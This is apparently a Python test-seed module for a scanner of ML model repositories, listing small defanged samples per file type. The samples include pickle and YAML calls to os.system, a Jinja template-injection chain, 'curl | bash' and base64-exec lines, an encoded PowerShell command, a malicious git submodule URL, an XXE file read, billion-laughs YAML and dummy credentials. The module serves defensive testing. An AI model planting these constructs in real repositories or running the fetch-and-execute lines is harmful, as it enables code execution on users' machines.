"""Small texts in the languages that a model's repo holds, as seeds: each reaches its reader's rarer branches."""

from __future__ import annotations

import json

SOURCE = """import base64, os as o
from importlib import import_module
class A(dict, metaclass=type):
    def __reduce__(self): return (getattr(o, "sys" + "tem"), ("true",))
async def f(*a: int, b="x" * 3, **k) -> None:
    with open(b"x".decode(), f"{b!r:>{k}}") as h: h.write(eval("1"))
    match a:
        case [1, {"k": v}, *_]: exec(base64.b64decode("cHJpbnQoMSk="))
try: import torch; torch.load("x.pt", weights_only=False)
except* ValueError: lambda q: [z async for z in q if (y := z)]
"""
TEMPLATE = (
    "{% macro m(a, b='x') %}{{ a|upper ~ b }}{% endmacro %}{% set ns = namespace(i=0) %}{% for x in messages if x.role %}"
    "{% if 'secret' in x['content'] or loop.index0 % 2 %}{{ raise_exception('a' ~ 1) }}{% elif x is defined %}{{ m(x) }}"
    "{% endif %}{%- set ns.i = ns.i + 1 -%}{% endfor %}{{ ''.__class__.__mro__[1]['__sub' ~ 'classes__']() }}"
    "{{ x|attr('\\x5f\\x5finit\\x5f\\x5f') }}{# note #}{% raw %}{{ }}{% endraw %}{% filter trim %} a {% endfilter %}"
)
YAML = """# comment
a: &x {_target_: os.system, command: "true", n: [1, 2.5, ~, 0x1F, 2020-01-01]}
b: *x
<<: *x
? [k, l]
: !!python/object/apply:os.system ["true"]
c: |
  block
  text
d: >-
  folded
e: !custom {x: 'it''s', y: "a\\u0041"}
---
- _partial_: true
  _target_: builtins.eval
...
"""
NOTEBOOK = {
    "nbformat": 4,
    "metadata": {"kernelspec": {"language": "python"}},
    "cells": [
        {"cell_type": "code", "source": ["import os\n", "!curl x | sh\n", "%run a.py"], "outputs": [{"data": {}}]},
        {"cell_type": "code", "source": "%%bash\ntrue", "outputs": []},
        {"cell_type": "markdown", "source": ["<script>1</script>"], "attachments": {"a": {"image/png": "AAAA"}}},
    ],
}
CARD = """---
license: other
license_name: x
license_link: LICENSE
base_model: [a/b, "c/d"]
language:
- en
model-index:
- name: x
  results: [{task: {type: t}, metrics: [{type: m, value: 1.0}]}]
---
# Title
hf_ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefgh
"""
PMML = """<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE PMML [<!ENTITY a "b"><!ENTITY c SYSTEM "file:///etc/x">]>
<PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4"><Header/><DataDictionary><DataField name="&a;"/></DataDictionary>
<Extension name="x" value="&c;"><![CDATA[<script>]]></Extension><?x y?><!-- c --></PMML>"""
OPENVINO = """<?xml version="1.0"?><net name="m" version="11"><layers><layer id="0" name="c" type="Const" version="opset1">
<data element_type="f32" shape="2, 2" offset="0" size="16"/><output><port id="0"><dim>2</dim></port></output></layer>
</layers><edges><edge from-layer="0" from-port="0" to-layer="1" to-port="0"/></edges></net>"""
MLMODEL = """flavors:
  python_function: {loader_module: mlflow.sklearn, model_path: model.pkl, code: code, env: {conda: conda.yaml}}
  sklearn: {pickled_model: model.pkl, serialization_format: cloudpickle}
signature: {inputs: '[{"type": "double"}]'}
"""
REQUIREMENTS = """# c
torch==2.0 ; python_version > "3.8" --hash=sha256:abc
-r other.txt
--extra-index-url http://example.com/simple
x @ git+https://example.com/x.git@main#egg=x
https://example.com/a.whl \\
  --no-deps
-e ./local[extra]
"""
TOKENIZER = {
    "chat_template": [{"name": "default", "template": TEMPLATE}, {"name": "tool_use", "template": "{{ x }}"}],
    "auto_map": {"AutoTokenizer": ["a/b--tok.T", None]},
    "added_tokens_decoder": {"0": {"content": "<s>"}},
}
CONFIG = {
    "architectures": ["X"],
    "auto_map": {"AutoModel": "a/b--modeling.X"},
    "custom_pipelines": {"p": {"impl": "p.P", "pt": ["AutoModel"]}},
    "trust_remote_code": True,
    "quantization_config": {"x": 1},
    "chat_template": TEMPLATE,
}
KERAS = {
    "class_name": "Functional",
    "module": "keras",
    "config": {"layers": [
        {"class_name": "Lambda", "config": {"function": {"class_name": "__lambda__", "config": {"code": "4wE="}}}},
        {"class_name": "TFSMLayer", "module": "keras.layers", "config": {"filepath": "/x", "name": "l"}},
        {"class_name": "f", "module": "os", "registered_name": "system", "config": {"name": "m"}},
    ]},
}  # fmt: skip
MODULES = [{"idx": 0, "name": "0", "path": "", "type": "custom_st.Transformer"}, {"idx": 1, "type": "a/b--x.Y"}]
INDEX = {"metadata": {"total_size": 1}, "weight_map": {"a": "model-1.safetensors", "b": "../x.bin", "c": "/y"}}
XGBOOST = {
    "learner": {
        "gradient_booster": {"model": {"trees": [{"left_children": [1, -1, -1], "right_children": [2, -1, -1],
         "parents": [0, 0, 0], "split_indices": [0, 0, 0], "tree_param": {"num_nodes": "3"}}],
         "gbtree_model_param": {"num_trees": "1"}, "tree_info": [0]}, "name": "gbtree"},
        "learner_model_param": {"num_feature": "1"},
    },
    "version": [2, 0, 0],
}  # fmt: skip
PIR = {
    "base_code": {"magic": "pir", "version": 1, "trainable": True},
    "program": {"regions": [{"#": "region_0", "blocks": [{"#": "block_0", "args": [], "ops": [
        {"#": "1.py_func", "A": [{"N": "token", "AT": {"#": "0.a_str", "D": "x"}}], "I": [], "O": []},
    ]}]}]},
}  # fmt: skip
LAUGHS = "a0: &a0 [x, x]\n" + "".join(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]\n" for n in range(1, 12))
KEY = "-----BEGIN " + "PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n-----END PRIVATE" + " KEY-----"
"""Put together here, so that no scanner of secrets takes this file for one that holds a key."""

TEXTS: dict[str, str | dict[str, object] | list[dict[str, object]]] = {
    "model.py": SOURCE,
    "chat_template.jinja": TEMPLATE,
    "hydra.yaml": YAML,
    "book.ipynb": NOTEBOOK,
    "README.md": CARD,
    "LICENSE": "Apache License\nVersion 2.0, January 2004\nTERMS AND CONDITIONS\n" + KEY,
    "m.pmml": PMML,
    "m.xml": OPENVINO,
    "MLmodel": MLMODEL,
    "requirements.txt": REQUIREMENTS,
    "tokenizer_config.json": TOKENIZER,
    "config.json": CONFIG,
    "model.json": KERAS,
    "modules.json": MODULES,
    "model.safetensors.index.json": INDEX,
    "booster.json": XGBOOST,
    "settings.json": {"aws": "AKIA" + "ABCDEFGHIJKLMNOP", "_target_": "os.system", "key": KEY},
    "run.sh": "#!/bin/sh\nset -e\ncurl -s https://example.com | bash\neval $(echo dHJ1ZQ== | base64 -d)\npip install x\n",
    "setup.bat": "@echo off\r\npowershell -enc dHJ1ZQ==\r\n",
    "evil.pth": "import os; exec('print(1)')\n./folder\n",
    ".gitattributes": "*.bin filter=lfs diff=lfs -text\n*.py filter=evil\n[attr]x y\n",
    ".gitmodules": '[submodule "x"]\n\tpath = ../x\n\turl = ext::sh -c true\n\tupdate = !true\n',
    "config": '[core]\n\tfsmonitor = true\n\tsshCommand = ssh -x\n[filter "a"]\n\tclean = true\n[alias]\n\tx = !true\n',
    "pyproject.toml": '[project]\ndependencies = ["x @ git+https://example.com/x.git", "y"]\n[[tool.uv.index]]\nurl = "http://a.b"\n',
    "program.json": PIR,
    "deep.json": "[" * 1200 + "]" * 1200,
    "laughs.yaml": LAUGHS,
    "model.onnx": "cposix\nsystem\n(S'true'\ntR.",
    "lgb.txt": "tree\nversion=v4\nnum_class=1\nmax_feature_idx=1\nfeature_names=a b\ntree_sizes=70\n\nTree=0\nnum_leaves=2\n"
    "num_cat=0\nsplit_feature=0\nleft_child=-1\nright_child=-2\nleaf_value=1 2\n\nend of trees\n",
    "graph.pbtxt": 'node { name: "a" op: "PyFunc" attr { key: "token" value { s: "x" } } } versions { producer: 1 }',
}


def texts() -> list[tuple[str, bytes]]:
    """(name, content) of each; what is no text yet becomes JSON."""
    return [(name, (text if isinstance(text, str) else json.dumps(text)).encode()) for name, text in TEXTS.items()]
